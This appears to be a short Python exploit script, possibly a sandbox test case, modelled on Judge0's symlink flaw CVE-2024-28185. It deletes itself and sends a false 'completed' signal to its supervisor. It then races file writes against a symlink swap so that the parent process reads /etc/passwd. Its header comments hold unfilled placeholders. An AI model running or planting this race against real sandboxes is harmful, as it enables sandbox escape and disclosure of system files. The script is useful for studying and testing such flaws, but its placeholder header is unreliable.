# Files that code which claims to have ended still changes are not read, or read as they were.
# Judge0's CVE-2024-28185 was a link in the place of a file that the parent used afterwards.
# makes: …
# left out: …
# prints: …
import attack
import os
import threading

NAME = "/mnt/data/plot.txt"


def toggle():
    while True:
        try:
            with open(NAME, "w") as file:
                file.write("hello")
            os.unlink(NAME)
        except OSError:
            pass


def swap():
    while True:
        try:
            os.symlink("/etc/passwd", "/mnt/data/.x")
            os.rename("/mnt/data/.x", NAME)
        except OSError:
            pass


os.unlink("/mnt/data/attack.py")
os.system = None
threading.Thread(target=toggle, daemon=True).start()
os.write(attack.frame_socket(), attack.frame(attack.COMPLETED))
swap()
